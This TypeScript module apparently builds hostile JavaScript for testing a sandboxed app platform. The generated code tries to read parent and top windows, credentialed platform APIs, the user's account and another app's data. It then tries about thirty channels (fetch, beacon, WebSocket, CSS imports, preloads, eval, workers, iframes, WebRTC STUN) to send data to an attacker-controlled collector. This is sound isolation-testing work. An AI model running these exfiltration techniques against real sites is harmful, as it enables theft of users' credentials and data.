/** Where the hostile code tries to reach. */
export interface Targets {
  /** A server of the attacker's: whatever arrives there has been carried out of the app. */
  readonly collector: string;
  /** `host:port` of the attacker's STUN server. */
  readonly stun: string;
  readonly platform: string;
  /** Another app on the same instance, with its origin and a row that anyone may read there. */
  readonly otherApp: { readonly appId: string; readonly origin: string };
}

/**
 * Code that tries everything to get at what is not its own, or to carry data out. It writes what it could get at into
 * `window.loot`; what it could carry out, the collector knows.
 */
export function hostileCode({ collector, stun, platform, otherApp }: Targets): string {
  return `
const loot = {};
const steal = async (name, attempt) => {
  try {
    const value = await attempt();
    if (value !== undefined && value !== null && value !== '') loot[name] = String(value).slice(0, 200);
  } catch {}
};
const out = (way) => '${collector}/' + way + '?data=secret';
const element = (tag, attributes, parent = document.body) => {
  const made = Object.assign(document.createElement(tag), attributes);
  parent.append(made);
  return made;
};

export const thefts = Promise.all([
  steal('parent document', () => (parent === window ? '' : parent.document.title)),
  steal('top storage', () => (top === window ? '' : top.localStorage.length)),
  steal('top address', () => (top === window ? '' : top.location.href)),
  steal('platform page', () => fetch('${platform}/', { credentials: 'include' }).then((r) => r.text())),
  steal('platform api', () => fetch('${platform}/api/apps', { credentials: 'include' }).then((r) => r.text())),
  steal('builder api here', () => fetch('/api/apps').then((r) => (r.ok ? r.text() : ''))),
  steal('account here', () => fetch('/api/account/current').then((r) => (r.ok ? r.text() : ''))),
  steal('other app here', () => fetch('/api/apps/${otherApp.appId}/entities/Note').then((r) => (r.ok ? r.text() : ''))),
  steal('other app there', () => fetch('${otherApp.origin}/api/apps/${otherApp.appId}/entities/Note').then((r) => r.text())),
  steal('opened platform', () => window.open('${platform}/', 'stolen')?.location.href),
]);

const ways = {
  fetch: () => fetch(out('fetch'), { mode: 'no-cors' }).catch(() => {}),
  post: () => fetch(out('post'), { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }).catch(() => {}),
  xhr: () => { const request = new XMLHttpRequest(); request.open('GET', out('xhr')); request.send(); },
  beacon: () => navigator.sendBeacon(out('beacon'), 'secret'),
  socket: () => new WebSocket(out('socket').replace('http', 'ws')),
  events: () => new EventSource(out('events')),
  image: () => { new Image().src = out('image'); },
  background: () => { document.body.style.backgroundImage = 'url(' + out('background') + ')'; },
  styleElement: () => element('style', { textContent: '@import "' + out('styleElement') + '"; @font-face { font-family: x; src: url(' + out('font') + '); } body { font-family: x; }' }),
  stylesheet: () => element('link', { rel: 'stylesheet', href: out('stylesheet') }),
  prefetch: () => element('link', { rel: 'prefetch', href: out('prefetch') }),
  preload: () => element('link', { rel: 'preload', as: 'image', href: out('preload') }),
  modulepreload: () => element('link', { rel: 'modulepreload', href: out('modulepreload') }),
  icon: () => element('link', { rel: 'icon', href: out('icon') }),
  manifest: () => element('link', { rel: 'manifest', href: out('manifest') }),
  script: () => element('script', { src: out('script') }),
  inline: () => element('script', { textContent: 'fetch("' + out('inline') + '", { mode: "no-cors" })' }),
  imported: () => element('script', { type: 'module', src: URL.createObjectURL(new Blob(['import "' + out('imported') + '"'], { type: 'text/javascript' })) }),
  evaluated: () => (0, eval)('new Image().src = "' + out('evaluated') + '"'),
  worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker') + '", { mode: "no-cors" })']))),
  video: () => element('video', { src: out('video') }),
  frame: () => element('iframe', { src: out('frame') }),
  frameMarkup: () => document.body.insertAdjacentHTML('beforeend', '<iframe src="' + out('frameMarkup') + '"></iframe><object data="' + out('object') + '"></object><embed src="' + out('embed') + '">'),
  popup: () => window.open(out('popup')),
  ping: () => element('a', { href: '#', ping: out('ping') }).click(),
  topWindow: () => { if (top !== window) top.location.href = out('topWindow'); },
  rtc: () => call(window),
  rtcInFrame: () => call(element('iframe', {}).contentWindow),
  rtcInShadow: () => {
    const root = element('div', {}).attachShadow({ mode: 'closed' });
    call(element('iframe', {}, root).contentWindow);
  },
  rtcInCopy: () => {
    const host = document.createElement('div');
    host.attachShadow({ mode: 'open', clonable: true }).innerHTML = '<iframe></iframe>';
    const copy = host.cloneNode(true);
    document.body.append(copy);
    call(copy.shadowRoot.querySelector('iframe').contentWindow);
  },
};

/** Holds the thread, so that nothing comes between the call and the network. */
function call(realm) {
  const connection = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] });
  connection.createDataChannel('x');
  connection.setLocalDescription();
  for (const start = Date.now(); Date.now() - start < 300; );
}

export const tried = thefts.then(() => {
  for (const way of Object.values(ways)) {
    try { void way(); } catch {}
  }
  window.loot = loot;
});
`;
}
